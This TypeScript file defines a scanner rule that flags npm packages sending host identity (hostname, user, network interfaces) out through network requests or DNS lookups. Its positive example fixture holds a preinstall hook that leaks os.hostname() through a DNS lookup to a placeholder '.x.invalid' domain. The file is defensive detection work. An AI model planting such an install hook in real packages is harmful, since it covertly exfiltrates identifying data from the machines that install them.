import { allEvents, at, eventTrigger, type JsRule } from '../../analysis/javascript/context.js';
import { SRC } from '../../analysis/javascript/sources.js';
import { defineRule } from '../types.js';

/** Host identity (hostname, user, interfaces) sent over the network or encoded into DNS lookups. */
export const hostFingerprinting: JsRule = defineRule({
  meta: {
    id: 'npm/host-fingerprinting',
    kind: 'threat',
    category: 'reconnaissance',
    severity: 'high',
    confidence: 'high',
    ecosystems: ['npm'],
    description: 'Host identity (os.hostname, os.userInfo, network interfaces, USER) flows into a network request or a DNS lookup.',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p","scripts":{"preinstall":"node i.js"}}', 'i.js': "const os=require('os');const dns=require('dns');dns.lookup(os.hostname()+'.x.invalid',()=>{});" } }],
      negative: [{ files: { 'package.json': '{"name":"p"}', 'index.js': "const os=require('os');console.log(os.hostname());fetch('https://api.example.com/ping');" } }],
    },
  },
  check(ctx, report) {
    for (const { file, e } of allEvents(ctx)) {
      if (e.kind !== 'sink' || (e.sink !== 'network' && e.sink !== 'dns')) continue;
      if ((e.taint & SRC.hostinfo) === 0) continue;
      const trigger = eventTrigger(file, e);
      if (trigger === 'call' && !e.destinations.some((d) => d.cls !== 'well-known' && d.cls !== 'localhost')) continue;
      report(at(file, e, `Host identity (hostname/user/interfaces) is sent with ${e.name}${e.destinations[0] === undefined ? '' : ` to ${e.destinations[0].host}`}.`, { severity: trigger === 'call' ? 'medium' : 'high' }));
    }
  },
});
